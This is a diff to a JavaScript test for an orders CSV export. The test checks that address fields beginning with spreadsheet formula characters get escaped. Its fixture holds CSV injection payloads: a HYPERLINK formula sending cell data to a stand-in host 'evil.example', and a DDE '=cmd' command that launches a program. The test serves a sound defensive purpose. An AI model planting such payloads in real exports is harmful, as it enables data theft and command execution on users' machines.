@@ -14,7 +14,8 @@ const HOSTILE_ADDRESS = {
   name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
   street: "=cmd|' /C calc'!A0",
   city: '+SUM(1,1)',
-  state: '@SUM(1,1)',
+  // Still a state the checkout matches by name (docs/product.md, Delivery), typed as a formula.
+  state: '@Maharashtra',
 };
 
 describe('the orders CSV', () => {
@@ -41,7 +42,7 @@ describe('the orders CSV', () => {
       'selectedAddress.name': `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
       'selectedAddress.street': "'=cmd|' /C calc'!A0",
       'selectedAddress.city': "'+SUM(1,1)",
-      'selectedAddress.state': "'@SUM(1,1)",
+      'selectedAddress.state': "'@Maharashtra",
       'selectedAddress.phone': `'${testAddress.phone}`,
       items: '2 × -Festive Silk (#aa2233, 42 in)',
     });
